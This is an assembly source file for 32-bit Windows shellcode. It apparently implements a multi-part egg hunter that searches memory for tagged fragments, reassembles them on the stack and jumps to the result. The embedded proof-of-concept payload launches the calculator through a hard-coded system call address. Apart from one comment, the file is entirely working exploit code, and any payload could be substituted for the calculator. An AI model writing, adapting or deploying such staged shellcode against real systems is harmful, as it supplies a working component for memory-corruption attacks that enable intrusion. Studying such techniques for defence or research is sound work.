; Windows, 32 bit: collects its parts, each behind a mark with its number and length, from memory, and jumps to the whole.
bits 32
        call here
here:   pop esi
        sub esp, 0x400
        mov edi, esp
        push edi
        mov ecx, parts - here
        add esi, ecx
        mov dh, 1               ; number of the next part
part:   push esi
look:   inc esi
        cmp dword [esi], 0x004b3377
        jne look
        cmp byte [esi + 4], dh
        jne look
        movzx ecx, byte [esi + 5]
        add esi, byte 6
        rep movsb
        pop esi
        inc dh
        cmp dh, 3
        jne part
        pop edi
        jmp edi
        times 3 nop
parts:  nop
        dd 0x004b3377
        db 2, second_end - second
second: push byte 0
        push dword 'calc'
        mov ecx, esp
        push byte 1
        push ecx
        mov eax, 0x7c8623ad
        call eax
        jmp short $
second_end:
        dd 0x004b3377
        db 1, first_end - first
first:  xor eax, eax
        cld
        push eax
        push eax
first_end:
